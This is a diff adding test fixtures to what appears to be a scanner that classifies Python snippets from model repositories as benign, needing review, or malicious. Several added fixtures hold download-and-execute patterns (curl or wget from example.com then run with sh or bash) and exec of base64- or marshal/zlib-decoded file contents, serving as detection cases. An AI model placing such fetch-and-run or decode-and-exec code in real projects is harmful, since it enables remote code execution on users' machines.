@@ -84,6 +84,17 @@ HONEST = {
         "app.py",
         "import os\nos.system('wget https://huggingface.co/acme/net/resolve/main/net.pth -P weights')\n",
     ),
+    "settings_of_the_hub": (
+        "conftest.py",
+        "import os\nos.environ.setdefault('HF_HUB_OFFLINE', '1')\nos.environ['HF_DATASETS_CACHE'] = '/tmp/cache'\n",
+    ),
+    "launches_beside_weights": (
+        "run.py",
+        (
+            "import subprocess\nsubprocess.run(['wget', '-O', 'net.pth', 'https://example.com/net.pth'])\n"
+            "subprocess.run(['python', 'train.py', 'net.pth'])\n"
+        ),
+    ),
     "version_of_tcl": ("gui.py", "import tkinter\nVERSION = tkinter.Tcl().eval('info patchlevel')\n"),
     "shell_asked": (
         "builder.py",
@@ -121,6 +132,59 @@ ALIKE = {
         "app.py",
         "import os\nos.system('git clone https://example.com/x')\nos.system('python x/run.py')\n",
         Verdict.REVIEW,
+    ),
+    "launches_what_an_archive_may_hold": (
+        "app.py",
+        "import os\nos.system('wget https://example.com/x.zip')\nos.system('python x/run.py')\n",
+        Verdict.REVIEW,
+    ),
+    "another_hub": (
+        "conftest.py",
+        "import os\nos.environ['HF_ENDPOINT'] = 'https://hub.example.com'\n",
+        Verdict.REVIEW,
+    ),
+    "launches_weights": (
+        "app.py",
+        "import os\nos.system('wget https://example.com/x.bin -O run')\nos.system('python run')\n",
+        Verdict.REVIEW,
+    ),
+    "launches_an_installer": (
+        "prepare.py",
+        "import os\nos.system('wget https://example.com/conda.sh -O conda.sh')\nos.system('bash conda.sh -b')\n",
+        Verdict.REVIEW,
+    ),
+    "starts_what_it_fetches_in_a_model": (
+        "modeling_acme.py",
+        (
+            "import subprocess\nsubprocess.run(['curl', '-so', '/tmp/net', 'https://example.com/net'])\n"
+            "subprocess.run(['sh', '/tmp/net'])\n"
+        ),
+        Verdict.MALICIOUS,
+    ),
+    "fetches_twice_in_a_model": (
+        "modeling_acme.py",
+        "import subprocess\n"
+        + "".join(f"subprocess.run(['curl', '-so', '{x}', 'https://example.com/{x}'])\n" for x in "ab")
+        + "subprocess.run(['sh', 'c'])\n",
+        Verdict.REVIEW,
+    ),
+    "handles_what_it_fetches_in_a_model": (
+        "modeling_acme.py",
+        (
+            "import subprocess\nsubprocess.run(['curl', '-so', 'net.zip', 'https://example.com/net.zip'])\n"
+            "subprocess.run(['unzip', 'net.zip'])\n"
+        ),
+        Verdict.REVIEW,
+    ),
+    "runs_decoded_data": (
+        "app.py",
+        "import base64\nexec(base64.b64decode(open('net.bin', 'rb').read()))\n",
+        Verdict.MALICIOUS,
+    ),
+    "unpacks_code_beside_weights": (
+        "app.py",
+        "import marshal, zlib\nwith open('net.bin', 'rb') as f:\n    exec(marshal.loads(zlib.decompress(f.read())))\n",
+        Verdict.MALICIOUS,
     ),
     "launches_what_is_elsewhere": ("run.py", "import os\nos.system('python /opt/job.py')\n", Verdict.REVIEW),
     "asks_a_file": ("wrapper.py", "import os\nos.system('./payload --version')\n", Verdict.REVIEW),
